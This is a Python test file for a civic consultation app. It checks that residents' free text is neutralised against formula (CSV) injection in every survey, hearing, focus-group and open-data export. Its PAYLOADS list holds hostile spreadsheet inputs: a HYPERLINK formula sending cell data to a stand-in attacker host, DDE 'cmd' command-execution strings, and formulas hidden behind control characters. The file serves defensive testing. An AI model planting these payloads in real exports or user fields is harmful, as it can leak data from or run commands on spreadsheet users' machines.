"""Formula ("CSV") injection: text residents or planners wrote reaches no export as a live formula.

Residents' free text goes into every export there is (survey answers, hearing comments, focus-group answers and
pseudonyms, topic exports; the public report's open data carries a formula in its snapshot), and every CSV or
XLSX cell is read back: a cell that a spreadsheet would run (starting with = + - @, a tab or a carriage return,
also after leading blanks or control characters) must be a plain number or be neutralised with a leading quote.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from civic.core.spreadsheet import neutralise
from civic.core.timeutils import now_utc
from civic.focus_groups.models import Contribution, FocusGroupParticipant
from civic.hearings.models import Comment
from civic.surveys.models import TEXT_KINDS, Answer, ResponseState, SurveyResponse
from tests.test_permission_matrix import _client_as

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\x01=1+1",
    "=1+1\n=2+2",
    "Bra forslag\r=1+1",  # a lone CR ends the row in a CSV reader unless the field is quoted
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Characters a spreadsheet or openpyxl may drop in front of a formula (blanks and control characters).
INVISIBLE = "".join(chr(c) for c in range(0x21)) + "\x7f"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _live(text: str) -> bool:
    """Would a spreadsheet run this cell's text as a formula?"""
    if text.startswith(FORMULA_STARTS) and not _is_number(text):
        return True
    stripped = text.lstrip(INVISIBLE)
    return stripped != text and stripped.startswith(FORMULA_STARTS) and not _is_number(stripped)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_defuses_every_payload(payload):
    assert not _live(neutralise(payload))


@pytest.mark.parametrize("text", ["Parkering", "12", "Bra, men: =dyrt", "e-post@bjerke.no", " Ja"])
def test_neutralise_leaves_plain_text_alone(text):
    assert neutralise(text) == text


def _csv_problems(name: str, data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [f"{name}: {cell!r}" for row in rows for cell in row if _live(cell)]


def _xlsx_problems(name: str, data: bytes) -> list[str]:
    problems = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and _live(cell.value)):
                    problems.append(f"{name}/{sheet.title}: {cell.value!r}")
    return problems


@pytest.fixture
def poisoned(db, public_world):
    """The world's survey, hearing and focus group, with every payload written into their free text."""
    world = public_world.staff
    survey_id = world.values["survey_id"]
    from civic.surveys.models import Survey

    survey = db.session.get(Survey, survey_id)
    text_questions = [q for q in survey.questions if q.kind in TEXT_KINDS]
    for payload in PAYLOADS:
        response = SurveyResponse(
            survey_id=survey.id, state=ResponseState.SUBMITTED, submitted_at=now_utc(), survey_version=survey.version
        )
        response.answers = [Answer(question_id=q.id, text=payload) for q in text_questions]
        db.session.add(response)
    # The topic run's comments carry payloads (topic exports), and every payload is a comment (Polis export).
    hearing_comments = db.session.query(Comment).filter(Comment.id >= world.hearing_values["comment_id"]).all()
    for comment, payload in zip(hearing_comments, PAYLOADS, strict=False):
        comment.body = payload
    author = hearing_comments[0]
    db.session.add_all(
        Comment(hearing_id=author.hearing_id, participant_id=author.participant_id, body=payload, state=author.state)
        for payload in PAYLOADS[len(hearing_comments) :]
    )
    prompt_id = world.focus_group_values["prompt_id"]
    contribution = db.session.get(Contribution, world.focus_group_values["contribution_id"])
    for i, payload in enumerate(PAYLOADS):
        participant = FocusGroupParticipant(
            focus_group_id=contribution.participant.focus_group_id, key_hash=f"{i:064x}", pseudonym=f"=cmd{i}"[:40]
        )
        db.session.add(participant)
        db.session.flush()
        db.session.add(Contribution(prompt_id=prompt_id, participant_id=participant.id, text=payload))
    db.session.commit()
    return public_world


def test_every_export_is_formula_free(app, poisoned):
    world = poisoned.staff
    admin = _client_as(app, world.users["admin"])
    survey_id = world.values["survey_id"]
    hearing_id = world.hearing_values["consultation_id"]
    group_id = world.focus_group_values["consultation_id"]
    report_id = poisoned.report["public_id"]
    downloads = {
        "survey results.csv": admin.get(f"/manage/results/{survey_id}/export.csv"),
        "survey results.xlsx": admin.get(f"/manage/results/{survey_id}/export.xlsx"),
        "transcript.csv": admin.get(f"/manage/focus-groups/{group_id}/transcript.csv"),
        "transcript.xlsx": admin.get(f"/manage/focus-groups/{group_id}/transcript.xlsx"),
        "hearing topics.csv": admin.get(f"/manage/insight/{hearing_id}/topics/export.csv"),
        "hearing topics.xlsx": admin.get(f"/manage/insight/{hearing_id}/topics/export.xlsx"),
        "open data.csv": app.test_client().get(f"/r/{report_id}/data.csv"),
        "open data.xlsx": app.test_client().get(f"/r/{report_id}/data.xlsx"),
    }
    problems: list[str] = []
    payload_seen = []
    for name, response in downloads.items():
        assert response.status_code == 200, name
        data = response.get_data()
        problems += (_xlsx_problems if name.endswith(".xlsx") else _csv_problems)(name, data)
        if b"1+1" in data or b"HYPERLINK" in data:
            payload_seen.append(name)
    polis = admin.get(f"/manage/hearings/{hearing_id}/export.zip", query_string={"spreadsheet": "1"})
    assert polis.status_code == 200
    with zipfile.ZipFile(io.BytesIO(polis.get_data())) as archive:
        for name in archive.namelist():
            problems += _csv_problems(f"polis {name}", archive.read(name))
        assert b"1+1" in archive.read("comments.csv")
    assert problems == [], "\n".join(problems)
    # The payloads really went through the CSV exports (the check above is not vacuous).
    assert {"survey results.csv", "transcript.csv", "open data.csv"} <= set(payload_seen)
